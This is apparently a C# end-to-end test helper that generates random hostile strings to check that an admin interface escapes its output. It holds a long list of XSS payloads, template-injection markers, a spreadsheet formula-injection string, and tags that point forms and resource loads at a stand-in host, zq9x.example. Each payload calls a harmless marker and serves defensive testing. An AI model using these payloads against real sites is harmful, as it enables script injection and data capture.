using System.Globalization;
using System.Text;

namespace CoopBot.EndToEnd.Admin;

/// <summary>Texts that would like to be more than text. Each holds <see cref="Mark"/>, so that it is found wherever it ends up.</summary>
internal static class HostileText
{
    public const string Mark = "zq9x";

    private static readonly string[] _breakers =
    [
        "", "\"", "'", "`", ">", "\">", "'>", "\"/>", "--", "-->", "<!--", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</a>", "</li></ol>",
        "</p></section></main>", "&quot;>", "&#34;>", "\\\"", "\u0000", "\r\n\r\n", "\u2028", "<", "<<", "</", "<zq9x ", "%22%3E", "\" x=\"", "' x='", "=",
    ];

    private static readonly string[] _cores =
    [
        "<script>zq9x()</script>", "<ScRiPt src=//zq9x.example></sCrIpT>", "<script/zq9x>1</script>", "<img src=x onerror=zq9x()>", "<img src=\"zq9x\" onload='zq9x()'>",
        "<svg/onload=zq9x()>", "<svg><script>zq9x</script></svg>", "<svg><a xlink:href=javascript:zq9x()><text>x</text></a></svg>", "<math><mtext><zq9x></mtext></math>",
        "<iframe src=javascript:zq9x()></iframe>", "<iframe srcdoc='<script>zq9x</script>'>", "<object data=zq9x>", "<embed src=zq9x>", "<base href=//zq9x.example/>",
        "<link rel=stylesheet href=//zq9x.example>", "<meta http-equiv=refresh content='0;url=//zq9x.example'>", "<form action=//zq9x.example><input name=form-token>", "<button formaction=//zq9x.example>zq9x",
        "<input autofocus onfocus=zq9x()>", "<details open ontoggle=zq9x()>", "<video><source onerror=zq9x()>", "<audio src onerror=zq9x()>", "<body onload=zq9x()>", "<marquee onstart=zq9x()>",
        "<style>@import '//zq9x.example'</style>", "<div style=\"background:url(//zq9x.example)\">", "<a href=javascript:zq9x()>x</a>", "<a href=\"data:text/html,zq9x\">x</a>", "<a href='java\tscript:zq9x()'>x</a>",
        "[x](javascript:zq9x())", "![x](//zq9x.example/y.png)", "<javascript:zq9x()>", "[x]: javascript:zq9x()", "{{zq9x}}", "${zq9x}", "@(zq9x)", "@zq9x", "<%= zq9x %>", "<?php zq9x ?>",
        " onmouseover=zq9x() ", " autofocus onfocus=zq9x() x=", " style=zq9x ", "&lt;script&gt;zq9x&lt;/script&gt;", "&#60;script&#62;zq9x", "\\u003cscript\\u003ezq9x", "%3Cscript%3Ezq9x",
        "<template><script>zq9x</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=zq9x()>\">", "<select><option>zq9x</select>", "<textarea>zq9x</textarea>", "<table><tr><td>zq9x", "<plaintext>zq9x", "<xmp>zq9x",
        "<custom-zq9x onclick=zq9x>", "http://zq9x.example/", "javascript:zq9x()", "//zq9x.example", "=cmd|'zq9x'!A1", "＜script＞zq9x＜/script＞", "<!--part--><script>zq9x</script>", "<![CDATA[zq9x]]>", "<!DOCTYPE zq9x>",
    ];

    public static string Make(Random random)
    {
        var text = new StringBuilder(Pick(random, _breakers)).Append(Pick(random, _cores));
        if (random.Next(3) == 0)
        {
            text.Append(Pick(random, _breakers)).Append(Pick(random, _cores));
        }

        return random.Next(4) switch
        {
            0 => Swapped(text.ToString(), random),
            1 => text.Append(CultureInfo.InvariantCulture, $" {random.Next()} ñ\u202e").ToString(),
            _ => text.ToString(),
        };
    }

    /// <summary>Another case here and there, which HTML does not mind; the mark stays findable without case.</summary>
    private static string Swapped(string text, Random random) =>
        string.Concat(text.Select(c => random.Next(3) == 0 ? char.IsUpper(c) ? char.ToLowerInvariant(c) : char.ToUpperInvariant(c) : c));

    private static string Pick(Random random, string[] from) => from[random.Next(from.Length)];
}
